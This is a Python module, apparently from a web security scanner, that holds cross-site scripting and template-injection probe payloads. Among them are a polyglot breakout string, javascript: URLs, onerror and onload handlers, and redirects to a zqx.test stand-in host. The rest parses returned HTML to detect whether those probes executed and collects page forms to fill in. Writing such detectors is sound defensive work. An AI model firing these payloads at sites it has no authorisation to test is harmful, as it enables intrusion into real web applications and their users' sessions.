"""What attackers type, and whether any of it came alive in a page."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

BREAKS_OUT = "\"'><zqx zqy=1></script></title></textarea></style></svg>-->]]><svg onload=zqx()>"
IN_SCRIPT = "'-zqx()-'\";zqx();//\\"
IN_ADDRESS = "javascript:zqx()//"
PLACEHOLDERS = "{{191*7}} {0.__class__} ((config)) ${191*7} #{191*7} {% raw %} %(zqx)s <%= 191*7 %>"
"""191 * 7 is 1337, which stands nowhere else."""
POLYGLOT = f"{IN_ADDRESS}{BREAKS_OUT}{IN_SCRIPT}{PLACEHOLDERS}"
SHORT = "\"'><zqx zqy=1>{{191*7}}((config))"
"""What a field takes that takes no long text."""
STORED = (
    "<img src=x onerror=zqx()>",
    "<svg><animate onbegin=zqx() attributeName=x>",
    '<math><mtext><a xlink:href="javascript:zqx()">x</a></mtext></math>',
    '<div hx-get="//zqx.test/" hx-trigger="load">x</div>',
    '<iframe srcdoc="<script>zqx()</script>"></iframe>',
    '<a href="data:text/html,<script>zqx()</script>">x</a>',
    '<base href="//zqx.test/">',
    '<meta http-equiv="refresh" content="0;url=//zqx.test/">',
    '<form action="//zqx.test/"><button name="zqx">x</button></form>',
    '<style>@import "//zqx.test/";</style>',
    "<script>zqx()</script>",
    "[x](javascript:zqx())",
    '<object data="//zqx.test/"></object><embed src="//zqx.test/">',
    '" autofocus onfocus=zqx() x="',
    "<!--><zqx zqy=1>-->",
    "http://zqx.test/ mailto:zqx@zqx.test <https://zqx.test/>",
)
ELEMENTS = {"zqx", "base", "math", "object", "embed", "applet", "frame", "frameset", "style"}
ADDRESSES = {
    *("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "ping"),
    *("background", "cite", "manifest", "hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"),
}
REL = {"noopener", "nofollow", "ugc"}
UNSEEN = re.compile(r"[\x00-\x20]")


def alive(html: str, is_mail: bool = False) -> list[str]:
    """Every element and attribute of a page that only what was typed can have made.

    Mail is styled inline, since mail programs know no style sheets.
    """
    page = _Page(is_mail)
    page.feed(html)
    page.close()
    return page.found + re.findall(r".{20}\b1337\b.{20}", html, re.DOTALL)


class _Page(HTMLParser):
    def __init__(self, is_mail: bool) -> None:
        super().__init__()
        self.found: list[str] = []
        self._elements = ELEMENTS - ({"style"} if is_mail else set())
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        given = {name: value or "" for name, value in attrs}
        if tag in self._elements or any(_is_odd(tag, *each, given) for each in given.items()):
            self.found.append(f"<{tag} {attrs}>")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside in ("script", "style") and "zqx" in data:
            self.found.append(f"<{self._inside}>{data}")


def _is_odd(tag: str, name: str, value: str, given: dict[str, str]) -> bool:
    """True for an attribute that runs something, or leads to where nobody of us leads."""
    if re.match(r"(on|(data-)?hx-on|zqy|srcdoc$)", name):
        return True
    if name in ("style", "http-equiv") and "zqx" in "".join(given.values()):
        return True
    if name == "hx-vals" and value.lstrip().startswith("js:"):
        return True
    return name in ADDRESSES and not _may_lead(tag, value, given)


def _may_lead(tag: str, value: str, given: dict[str, str]) -> bool:
    """True for our own addresses, and for links that say that they are not ours."""
    plain = UNSEEN.sub("", value).lower()
    scheme, host = plain.partition(":")[0], urlsplit(urljoin("http://localhost/", plain)).netloc
    if scheme in ("javascript", "vbscript") or (scheme == "data" and tag == "a"):
        return False
    if scheme == "data":
        return plain.startswith("data:image/")
    if "zqx" not in host:
        return True
    return tag == "a" and scheme in ("http", "https") and set(given.get("rel", "").split()) >= REL


class Form:
    """A form of a page: where it leads, and what it would send as it stands there."""

    def __init__(self, page: str, attributes: dict[str, str]) -> None:
        self.action = urljoin(page, attributes.get("action", ""))
        self.is_post = attributes.get("method", "get").lower() == "post"
        self.sent: dict[str, str] = {}
        self.texts: set[str] = set()
        self.files: set[str] = set()

    def filled_in(self, text: str) -> dict[str, str]:
        """What it sends with this text in every field that somebody types in."""
        return self.sent | dict.fromkeys(self.texts, text)


TYPED = {"text", "search", "email", "url", "tel", "password", ""}


class _Forms(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.forms: list[Form] = []
        self._page, self._select, self._area = page, "", ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        has = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.forms.append(Form(self._page, has))
        elif self.forms:
            self._field(tag, has, self.forms[-1])

    def _field(self, tag: str, has: dict[str, str], form: Form) -> None:
        name, kind = has.get("name", ""), has.get("type", "")
        if tag == "select":
            self._select = name
        elif tag == "option":
            if self._select and ("selected" in has or self._select not in form.sent):
                form.sent[self._select] = has.get("value", "")
        elif tag == "textarea" or (tag == "input" and kind in TYPED):
            form.texts.add(name)
        elif tag == "input" and kind == "file":
            form.files.add(name)
        elif tag == "input" and (kind not in ("radio", "checkbox", "submit") or "checked" in has):
            form.sent[name] = has.get("value", "")
        elif tag == "input" and kind == "radio":
            form.sent.setdefault(name, has.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = ""


def forms(page: str, html: str) -> Iterator[Form]:
    """The forms of a page."""
    read = _Forms(page)
    read.feed(html)
    yield from read.forms
